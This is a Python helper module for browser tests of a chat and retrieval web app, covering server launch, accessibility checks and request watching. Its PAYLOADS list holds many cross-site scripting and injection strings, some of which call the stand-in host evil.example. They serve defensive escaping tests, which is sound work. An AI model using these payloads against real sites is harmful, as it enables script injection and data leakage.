"""What the browser tests share: reports, hostile texts, a watch over what a page does, and how to ask."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from playwright.sync_api import Browser, BrowserContext, Page, expect

ROOT = Path(__file__).resolve().parents[3]
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or "/usr/bin/chromium"
SWITCHES = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]

REPORT = """Mali: Raids Along The River

April 9, 2018: The river towns had a hard month, and the army says that it will stay.

April 6, 2018: In the north (Gao) gunmen of the Red Falcon group attacked the army camp at dawn. Seven soldiers were killed and
the camp burned until noon.

March 12, 2018: In the center (Mopti) a mine destroyed a bus near Konna. Eleven passengers were hurt, two of them badly.

Archive

Mali: Current 2018 2017 2016
"""
SECOND = """Niger: A Patrol Is Caught

May 20, 2018: The western border is no safer than it was.

May 14, 2018: In the west (Ayorou) the Sand Viper militia ambushed a patrol of twelve gendarmes. Issa Maman was wounded.

Archive
"""

# Each would run, load, submit or navigate if any of it were taken for markup somewhere between the file and the page.
PAYLOADS = [
    "<script>document.title='run'</script>",
    "<img src=https://evil.example/a.png onerror=\"document.title='run'\">",
    "<svg onload=\"document.title='run'\"><circle r=9></svg>",
    "<form action=https://evil.example/f><input name=q><button>Go</button></form>",
    "<iframe src=https://evil.example/></iframe><iframe srcdoc=\"<script>parent.document.title='run'</script>\"></iframe>",
    "<a href=\"javascript:document.title='run'\">press</a> <a href=https://evil.example/>press</a>",
    "![x](https://evil.example/b.png) [press](https://evil.example/) [press](javascript:document.title='run')",
    "\"'><details open ontoggle=\"document.title='run'\">x</details>",
    "<style>body{background:url(https://evil.example/c.png)}</style><link rel=stylesheet href=https://evil.example/d.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=https://evil.example/>',
    "<math><mtext><img src=x onerror=\"document.title='run'\"></mtext></math>",
    "<video src=https://evil.example/e.mp4 autoplay></video><audio src=https://evil.example/e.mp3 autoplay></audio>",
    "$$\\href{https://evil.example/}{x}$$ \\(\\includegraphics{https://evil.example/g.png}\\)",
    "${document.title='run'} {{constructor.constructor('document.title=1')()}}",
    "&lt;script&gt;document.title='run'&lt;/script&gt; &#60;img src=x onerror=document.title='run'&#62;",
    "<body onload=\"document.title='run'\"><input autofocus onfocus=\"document.title='run'\">",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/p>",
    "<marquee onstart=\"document.title='run'\">x</marquee><isindex action=https://evil.example/ type=submit>",
    "<a href=\"data:text/html,<script>parent.document.title='run'</script>\" target=_self>press</a>",
    "<svg><script href=https://evil.example/q.js></script><use href=https://evil.example/r.svg#x></use></svg>",
    "<svg><animate onbegin=\"document.title='run'\" attributeName=x dur=1s></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='run'>\"></noscript>",
    "<template><img src=x onerror=\"document.title='run'\"></template><slot onslotchange=\"document.title='run'\"></slot>",
    "<button formaction=https://evil.example/s form=x>Go</button><form id=x></form><dialog open>x</dialog>",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/t.png)">x</div>',
    "</main></body><img src=https://evil.example/u.png onerror=\"document.title='run'\"><main>",
    "\\u003cimg src=x onerror=document.title='run'\\u003e \\x3cscript\\x3edocument.title='run'\\x3c/script\\x3e",
    "<plaintext><xmp><script>document.title='run'</script>",
]
PAYLOADS += [
    f"<{tag} {event}=\"document.title='run'\">x</{tag}>"
    for tag in ("a", "b", "div", "input", "select", "svg", "video", "xss")
    for event in (
        "onclick",
        "onerror",
        "onfocus autofocus tabindex=1 onfocus",
        "onload",
        "onmouseover",
        "onpointerenter",
        "ontoggle",
    )
] + [
    f"{quote}{end}<img src=https://evil.example/{n}.png onerror=\"document.title='run'\">"
    for n, (quote, end) in enumerate(
        (q, e) for q in ("'", '"', "`", "") for e in (">", "-->", "]]>", "</title>", "</textarea>", "</script>")
    )
]


@dataclass
class Watch:
    """What a page did that it should not do."""

    origin: str
    outside: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)

    def attach(self, page: Page) -> None:
        page.on("request", lambda r: None if r.url.startswith((self.origin, "data:", "blob:")) else self.outside.append(r.url))
        page.on("pageerror", lambda e: self.errors.append(str(e)))
        page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" and "Content Security" in m.text else None)
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))


@dataclass(frozen=True)
class Server:
    url: str
    corpus: Path
    home: Path


@contextmanager
def page_process(folder: Path, **settings: str) -> Iterator[str]:
    """A page in a process of its own.

    Args:
        folder: Where it runs; its log goes to ``server.log`` there, and at the end must hold no traceback.
        **settings: Of the environment, without the "RAG_" before their names.

    Yields:
        Its address, with a slash at the end.
    """
    environment = {k: v for k, v in os.environ.items() if not k.startswith(("RAG_", "GRADIO_"))}
    environment |= {"RAG_HOME": str(folder / "home"), "RAG_CORPUS": str(folder / "corpus"), "RAG_WEB_PORT": "0"}
    environment |= {f"RAG_{name}": value for name, value in settings.items()}
    log = folder / "server.log"
    with log.open("w") as errors:
        process = subprocess.Popen(
            [sys.executable, str(ROOT / "app.py")], cwd=folder, env=environment, stdout=subprocess.PIPE, stderr=errors, text=True
        )
        try:
            assert process.stdout is not None
            line = process.stdout.readline()
            match = re.search(r"http://127\.0\.0\.1:\d+", line)
            assert match, f"no address in {line!r}; {log.read_text()}"
            yield match.group() + "/"
        finally:
            process.terminate()
            process.communicate(timeout=30)
    assert "Traceback" not in log.read_text(), log.read_text()


@dataclass
class View:
    """Opens the page at a width and in a scheme, and looks for what keeps people out."""

    server: Server
    browser: Browser
    watch: Watch
    contexts: list[BrowserContext] = field(default_factory=list)

    def open(self, width: int, scheme: str) -> Page:
        # Axe is a script of its own, which the page's policy would keep out.
        context = self.browser.new_context(
            viewport={"width": width, "height": 844}, color_scheme="dark" if scheme == "dark" else "light", bypass_csp=True
        )
        context.set_default_timeout(30_000)
        self.contexts.append(context)
        page = context.new_page()
        self.watch.attach(page)
        page.goto(self.server.url)
        expect(page.locator("#machine")).to_have_class(re.compile("ready"), timeout=120_000)
        expect(page.locator("#coverage .coverage")).to_be_visible()
        return page

    @staticmethod
    def findings(page: Page) -> set[tuple[str, str]]:
        """Serious findings of axe, rule and element, and whether the page scrolls sideways."""
        from axe_playwright_python.sync_playwright import Axe

        violations = Axe().run(page).response["violations"]
        found = {(f["id"], n["html"][:160]) for f in violations if f["impact"] in ("serious", "critical") for n in f["nodes"]}
        if page.evaluate("document.documentElement.scrollWidth > window.innerWidth"):
            found.add(("scrolls sideways", page.url))
        return found


def ask(page: Page, question: str) -> None:
    replies = page.locator("#chat .reply:not(.waiting)")
    before = replies.count()
    page.locator("#question textarea").fill(question)
    page.keyboard.press("Enter")
    expect(replies).to_have_count(before + 1)
    expect(page.locator("#chat .reply .foot, #chat .reply.error")).to_have_count(before + 1)


def evaluate(page: Page, file: Path) -> None:
    page.get_by_role("tab", name="Evaluate").click()
    page.get_by_label("My own file").check()
    page.locator("#eval-file input[type=file]").set_input_files(file)
    # The name stands there during the upload already; the link comes with its end, and moves what is below.
    expect(page.locator("#eval-file table a")).to_be_visible()
    page.locator("#eval-start").click()
